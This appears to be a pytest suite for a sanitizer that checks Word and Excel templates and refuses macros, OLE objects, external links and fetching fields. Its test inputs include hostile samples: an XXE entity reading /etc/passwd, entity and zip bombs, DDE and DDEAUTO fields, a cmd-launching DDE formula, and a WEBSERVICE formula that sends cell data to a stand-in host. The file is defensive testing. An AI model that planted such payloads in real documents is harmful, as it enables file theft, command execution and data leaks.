"""Forms that may be made to do harm: what reaches out of them is taken off or refused, in words."""

import io
import zipfile
from collections.abc import Mapping
from typing import Literal

import docx
import pytest
from docx.opc.packuri import PackURI
from docx.oxml import parse_xml
from tests import small_paper
from tests.small_paper import saved

from kh02.office.parts import unzipped, zipped
from kh02.sandbox.fault import BadTemplateError
from kh02.sandbox.package import checked

Kind = Literal["docx", "xlsx"]
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
OFFICE = "application/vnd.openxmlformats-officedocument"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BOMB = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
REACHING = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def word(text: str = "{{ day }}") -> bytes:
    return saved(small_paper.word(text))


def excel(**cells: object) -> bytes:
    return saved(small_paper.excel(**cells or {"A1": "{{ day }}"}))


def with_parts(form: bytes, parts: Mapping[str, bytes]) -> bytes:
    """The package with parts added to it, or put in the place of its own."""
    written = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(form)) as source,
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, content in parts.items():
            target.writestr(name, content)
    return written.getvalue()


def linked(form: bytes, links: str, kind: str, target: str) -> bytes:
    """The form with a relation to something outside, in the part of relations ``links``."""
    with zipfile.ZipFile(io.BytesIO(form)) as packed:
        text = packed.read(links).decode() if links in packed.namelist() else "<Relationships xmlns="
    if text.endswith("xmlns="):
        text += '"http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    link = f'<Relationship Id="rIdX" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
    return with_parts(form, {links: text.replace("</Relationships>", f"{link}</Relationships>").encode()})


def refusal(form: bytes, kind: Kind) -> str:
    with pytest.raises(BadTemplateError) as caught:
        checked(form, kind)
    return str(caught.value)


def test_an_ordinary_form_stays_as_it_is() -> None:
    assert checked(form := word(), "docx") == form
    assert checked(form := excel(A1="=SUM(B1:B2)", B1="{{ day }}"), "xlsx") == form


@pytest.mark.parametrize("form", [b"", b"# no zip", b"PK\x03\x04 damaged", excel()])
def test_what_is_no_word_file_is_refused(form: bytes) -> None:
    assert "Word (.docx)" in refusal(form, "docx")


@pytest.mark.parametrize("form", [b"", b"# no zip", word()])
def test_what_is_no_excel_file_is_refused(form: bytes) -> None:
    assert refusal(form, "xlsx") == "không phải là sổ Excel (.xlsx), hoặc đã hỏng"


@pytest.mark.parametrize(("form", "kind"), [(word(), "docx"), (excel(), "xlsx")])
def test_a_zip_bomb_is_not_unpacked(form: bytes, kind: Kind) -> None:
    assert "giải nén ra gấp hơn 400 lần" in refusal(with_parts(form, {"bom.xml": b" " * 99_000_000}), kind)


@pytest.mark.parametrize("content", [BOMB, REACHING], ids=["entities", "external entity"])
@pytest.mark.parametrize(
    ("form", "kind", "part"),
    [
        (word(), "docx", "word/document.xml"),
        (word(), "docx", "word/settings.xml"),
        (excel(), "xlsx", "xl/worksheets/sheet1.xml"),
        (excel(), "xlsx", "xl/styles.xml"),
        (excel(), "xlsx", "docProps/core.xml"),
    ],
)
def test_entities_are_refused_in_every_part(form: bytes, kind: Kind, part: str, content: bytes) -> None:
    assert "khai báo DTD" in refusal(with_parts(form, {part: content}), kind)


@pytest.mark.parametrize(
    ("form", "doc_kind", "links", "kind"),
    [
        (word(), "docx", "word/_rels/document.xml.rels", "image"),
        (word(), "docx", "word/_rels/document.xml.rels", "oleObject"),
        (word(), "docx", "word/_rels/document.xml.rels", "subDocument"),
        (word(), "docx", "word/_rels/styles.xml.rels", "image"),
        (excel(), "xlsx", "xl/_rels/workbook.xml.rels", "externalLinkPath"),
        (excel(), "xlsx", "xl/worksheets/_rels/sheet1.xml.rels", "image"),
    ],
)
def test_what_is_fetched_from_outside_is_refused_with_its_address(
    form: bytes, doc_kind: Kind, links: str, kind: str
) -> None:
    message = refusal(linked(form, links, kind, "http://x.example/a.png"), doc_kind)
    assert message.startswith(f"phần {links} lấy nội dung ({kind}) từ bên ngoài: http://x.example/a.png; hãy ")


def test_links_that_somebody_has_to_click_stay() -> None:
    form = linked(word(), "word/_rels/document.xml.rels", "hyperlink", "https://dichvucong.gov.vn")
    assert checked(form, "docx") == form


@pytest.mark.parametrize("name", ["settings.xml", "settings7.dat"])
def test_the_link_to_the_word_template_it_was_made_with_is_taken_off(name: str) -> None:
    document = docx.Document()
    element = parse_xml(f'<w:attachedTemplate xmlns:w="{WORD}" xmlns:r="{RELATIONS}" r:id="rIdX"/>')
    document.settings.element.insert(0, element)
    document.part._settings_part.partname = PackURI(f"/word/{name}")
    links = f"word/_rels/{name}.rels"
    form = linked(saved(document), links, "attachedTemplate", "http://xau.example/a.dotm")
    with zipfile.ZipFile(io.BytesIO(checked(form, "docx"))) as packed:
        assert b"xau.example" not in packed.read(links)
        assert b"attachedTemplate" not in packed.read(f"word/{name}")
    assert docx.Document(io.BytesIO(checked(form, "docx"))).paragraphs == []


def with_part(form: bytes, relation: str, name: str, content_type: str, content: bytes = b"<x/>") -> bytes:
    """The form with one more part, related to its main part."""
    main = "xl/_rels/workbook.xml.rels" if b"xl/workbook.xml" in form else "word/_rels/document.xml.rels"
    with zipfile.ZipFile(io.BytesIO(form)) as packed:
        links, types = packed.read(main).decode(), packed.read("[Content_Types].xml").decode()
    relation = relation if ":" in relation else f"{RELATIONS}/{relation}"
    link = f'<Relationship Id="rIdX" Type="{relation}" Target="/{name}"/>'
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/>'
    parts = {
        main: links.replace("</Relationships>", f"{link}</Relationships>").encode(),
        "[Content_Types].xml": types.replace("</Types>", f"{override}</Types>").encode(),
        name: content,
    }
    return with_parts(form, parts)


@pytest.mark.parametrize(
    ("relation", "content_type", "said"),
    [
        (f"{MICROSOFT}/vbaProject", "application/vnd.ms-office.vbaProject", "có macro (word/la.xml); hãy lưu lại"),
        ("control", "application/vnd.ms-office.activeX+xml", "có nút điều khiển (ActiveX) (word/la.xml)"),
        ("aFChunk", "text/html", "có đoạn chèn từ tệp khác (altChunk)"),
        ("oleObject", f"{OFFICE}.oleObject", "có đối tượng nhúng (OLE)"),
        ("package", f"{OFFICE}.spreadsheetml.sheet", "có tệp nhúng"),
        ("frame", "text/html", "có phần lạ (frame)"),
        ("header", "image/png", "(header) có kiểu nội dung lạ: image/png"),
        ("image", "text/html", "(image) có kiểu nội dung lạ: text/html"),
    ],
)
def test_what_no_paper_needs_is_refused_whatever_it_is_called(relation: str, content_type: str, said: str) -> None:
    assert said in refusal(with_part(word(), relation, "word/la.xml", content_type), "docx")


@pytest.mark.parametrize(
    ("relation", "content_type", "said"),
    [
        (f"{MICROSOFT}/xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml", "có macro (xl/x.dat)"),
        ("externalLink", f"{OFFICE}.spreadsheetml.externalLink+xml", "có liên kết sang sổ khác"),
        ("connections", f"{OFFICE}.spreadsheetml.connections+xml", "có kết nối lấy dữ liệu"),
    ],
)
def test_what_no_table_needs_is_refused_whatever_it_is_called(relation: str, content_type: str, said: str) -> None:
    assert said in refusal(with_part(excel(), relation, "xl/x.dat", content_type), "xlsx")


def test_a_workbook_with_macros_that_is_called_xlsx_is_refused() -> None:
    with zipfile.ZipFile(io.BytesIO(form := excel())) as packed:
        types = packed.read("[Content_Types].xml")
    plain = f"{OFFICE}.spreadsheetml.sheet.main+xml".encode()
    macros = types.replace(plain, b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    assert refusal(with_parts(form, {"[Content_Types].xml": macros}), "xlsx").startswith("có macro")


HEADER = f"{OFFICE}.wordprocessingml.header+xml"
DDE = f'<w:hdr xmlns:w="{WORD}"><w:p><w:fldSimple w:instr=" DDE cmd "/></w:p></w:hdr>'


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (DDE, "có trường DDE"),
        (
            '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://x.example/a"/>',
            "lấy hình từ bên ngoài",
        ),
        ('<v:fill xmlns:v="v" xmlns:o="o" o:href="\\\\may-khac\\a.png"/>', "lấy hình từ bên ngoài"),
        (f'<w:mailMerge xmlns:w="{WORD}"/>', "Mail Merge"),
        ("<!DOCTYPE x><x/>", "khai báo DTD"),
    ],
)
def test_a_part_of_xml_is_looked_at_whatever_it_is_called(content: str, said: str) -> None:
    assert said in refusal(with_part(word(), "header", "word/hdr.dat", HEADER, content.encode()), "docx")


def test_capitals_and_escapes_in_a_name_hide_nothing() -> None:
    form = with_part(word(), "header", "word/hdr.dat", HEADER, DDE.encode())
    with zipfile.ZipFile(io.BytesIO(form)) as packed:
        links = packed.read("word/_rels/document.xml.rels")
    renamed = links.replace(b"/word/hdr.dat", b"../WORD/h%64r.dat")
    assert "có trường DDE" in refusal(with_parts(form, {"word/_rels/document.xml.rels": renamed}), "docx")


def test_two_parts_of_one_name_are_refused_also_in_other_capitals() -> None:
    assert "có hai lần" in refusal(with_parts(word(), {"WORD/document.xml": b"<x/>"}), "docx")


def test_a_part_that_nothing_leads_to_is_no_part() -> None:
    form = with_parts(word(), {"word/vbaProject.bin": b"x"})
    written = io.BytesIO()
    docx.Document(io.BytesIO(checked(form, "docx"))).save(written)
    with zipfile.ZipFile(written) as packed:
        assert "word/vbaProject.bin" not in packed.namelist()


def test_a_charts_figures_may_be_a_workbook() -> None:
    """Word keeps them so; the same workbook anywhere else is an embedded file."""
    chart = with_part(word(), "chart", "word/c.xml", f"{OFFICE}.drawingml.chart+xml")
    links = f'<Relationship Id="r" Type="{RELATIONS}/package" Target="b.xlsx"/>'
    with zipfile.ZipFile(io.BytesIO(chart)) as packed:
        types = packed.read("[Content_Types].xml").decode()
    suffix = f'<Default Extension="xlsx" ContentType="{OFFICE}.spreadsheetml.sheet"/>'
    parts = {
        "word/_rels/c.xml.rels": f'<Relationships xmlns="{PACKAGE}">{links}</Relationships>'.encode(),
        "word/b.xlsx": excel(),
        "[Content_Types].xml": types.replace("<Override", f"{suffix}<Override", 1).encode(),
    }
    assert checked(form := with_parts(chart, parts), "docx") == form


@pytest.mark.parametrize("field", ["INCLUDEPICTURE", "includetext", "DDEAUTO", "LINK"])
def test_fields_that_fetch_are_refused_also_in_pieces(field: str) -> None:
    document = docx.Document()
    paragraph = document.add_paragraph()._p
    for piece in (field[:4], field[4:] + ' "http://xau.example"'):
        paragraph.append(
            parse_xml(
                '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                f'<w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
            )
        )
    assert refusal(saved(document), "docx").startswith(f"có trường {field.upper()} lấy nội dung từ bên ngoài")


def test_page_numbers_are_fields_that_stay() -> None:
    document = docx.Document()
    document.add_paragraph()._p.append(parse_xml(f'<w:fldSimple xmlns:w="{WORD}" w:instr=" PAGE "/>'))
    assert checked(form := saved(document), "docx") == form


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://xau.example/?"&A1)', "=[1]Sheet1!A1", "='[so-khac.xlsx]B'!A1", "=cmd|'/c calc'!A1"],
)
def test_formulas_that_fetch_or_start_something_are_refused(formula: str) -> None:
    assert "công thức lấy số từ bên ngoài" in refusal(excel(A1=formula), "xlsx")


@pytest.mark.parametrize("formula", ["=Tbl[Cột]+1", '=IF(A1="[x]!","a|b",B1)', "='Biểu 2'!A1"])
def test_formulas_of_the_form_itself_stay(formula: str) -> None:
    assert checked(form := excel(A1=formula), "xlsx") == form


def test_a_package_written_anew_depends_on_its_contents_only() -> None:
    form = word()
    assert zipped(unzipped(form)) == zipped(unzipped(with_parts(form, {})))
    with zipfile.ZipFile(io.BytesIO(zipped(unzipped(form) | {"word/document.xml": b"<a/>"}))) as packed:
        assert packed.read("word/document.xml") == b"<a/>"
